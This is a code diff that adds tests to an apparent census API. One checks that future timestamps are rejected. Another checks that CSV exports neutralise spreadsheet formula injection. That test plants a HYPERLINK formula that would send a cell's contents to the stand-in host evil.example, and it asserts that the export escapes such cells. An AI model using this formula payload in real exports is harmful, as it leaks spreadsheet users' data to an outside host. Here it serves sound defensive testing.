@@ -30,6 +30,22 @@ def test_a_bad_instant_is_a_400_naming_it(api, network, users):
     assert_problem(response, 400, fields={"at"})
 
 
+def test_an_instant_in_the_future_is_a_400_naming_it(api, network, users):
+    response = api.as_user(users.austin).get("/api/v1/census/", {"at": "2099-01-01T00:00:00Z"})
+    assert_problem(response, 400, fields={"at"})
+
+
+def test_csv_cells_are_never_read_as_formulas(api, network, users):
+    # given a program whose name a spreadsheet would run as a formula
+    network.austin_detox.name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    network.austin_detox.save()
+    body = api.as_user(users.austin).get("/api/v1/census/", {"format": "csv"}).content.decode()
+    rows = list(csv.DictReader(io.StringIO(body)))
+    names = {row["program_name"] for row in rows}
+    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in names
+    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
+
+
 def test_csv_says_what_json_says(api, network, users):
     placed_client(network.austin_detox, users.austin)
     austin = api.as_user(users.austin)
